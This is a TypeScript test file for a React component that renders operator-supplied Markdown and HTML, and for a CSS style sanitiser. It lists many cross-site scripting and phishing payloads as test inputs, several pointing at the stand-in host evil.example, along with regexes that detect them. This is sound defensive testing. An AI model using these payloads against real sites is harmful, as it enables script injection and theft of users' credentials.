import { describe, expect, it } from 'bun:test'
import { renderToStaticMarkup } from 'react-dom/server'
import { OperatorText } from './operator-text.tsx'
import { safeStyle } from './safe-html.ts'

const visible = (text: string) =>
  renderToStaticMarkup(<OperatorText text={text} />)
    // React asks for pictures ahead of them.
    .replace(/^(<link rel="preload"[^>]*>)*<div class="[^"]*">/, '')
    .replace(/<\/div>$/, '')

describe("an operator's text", () => {
  it('keeps the format of HTML within Markdown', () => {
    expect(visible('Hello <b>bold</b> and <span style="color: red">red</span>\n\n# Title')).toBe(
      '<p>Hello <b>bold</b> and <span style="color:red">red</span></p>\n<h1>Title</h1>',
    )
    expect(visible('<div align="center">\n\n## Inside\n\n</div>\n\ntext')).toContain(
      '<div align="center">\n<h2>Inside</h2>\n</div>\n<p>text</p>',
    )
    expect(
      visible('<details><summary>More</summary>\n    <p>deep</p>\n\n    <p>deeper</p></details>'),
    ).toContain('<p>deeper</p>')
  })

  it('opens other sites apart, and stays here for own addresses', () => {
    expect(visible('[away](https://example.com)')).toContain('target="_blank" rel="noopener noreferrer"')
    expect(visible('[prices](/pricing)')).toBe('<p><a href="/pricing">prices</a></p>')
    expect(visible('[down](#end) <i id="end">end</i>')).toContain(
      '<a href="#user-content-end">down</a> <i id="user-content-end">end</i>',
    )
  })

  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<p onclick="alert(1)">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<svg onload=alert(1)><a href="javascript:alert(1)">x</a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    '<style>body { display: none }</style>',
    '<link rel=stylesheet href=https://evil.example/a.css>',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name=password><button>Log in</button></form>',
    '<object data="https://evil.example"></object><embed src="https://evil.example">',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><script>alert(1)</script>">',
    '<p style="position: fixed; inset: 0; background: url(https://evil.example)">x</p>',
    '<p class="fixed inset-0 z-50">x</p>',
    '<textarea></p><script>alert(1)</script></textarea>',
    'text <scr<script>ipt>alert(1)</scr</script>ipt>',
  ])('lets nothing of %s through', (text) => {
    for (const hostile of [text, `# Title\n\nwords ${text} words`]) {
      const html = visible(hostile)
      expect(html).not.toMatch(
        /<(script|style|svg|math|iframe|object|embed|form|button|link|base|meta|template)/i,
      )
      expect(html).not.toMatch(/<[^>]*\s(on\w+|srcdoc|class|action|name)=/i)
      expect(html).not.toMatch(/<[^>]*(javascript|data|url)[:(]/i)
      expect(html).not.toMatch(/<[^>]*position/i)
    }
  })
})

describe('a style attribute', () => {
  it('keeps looks and loses what reaches beyond its place', () => {
    expect(safeStyle('color: red; Position: fixed; margin-top: -90px; padding: 4px 8px;')).toBe(
      'color: red; padding: 4px 8px',
    )
    expect(safeStyle('background: u\\72l(x); background-color: var(--x); width: expression(alert(1))')).toBe(
      'background-color: var(--x)',
    )
  })
})
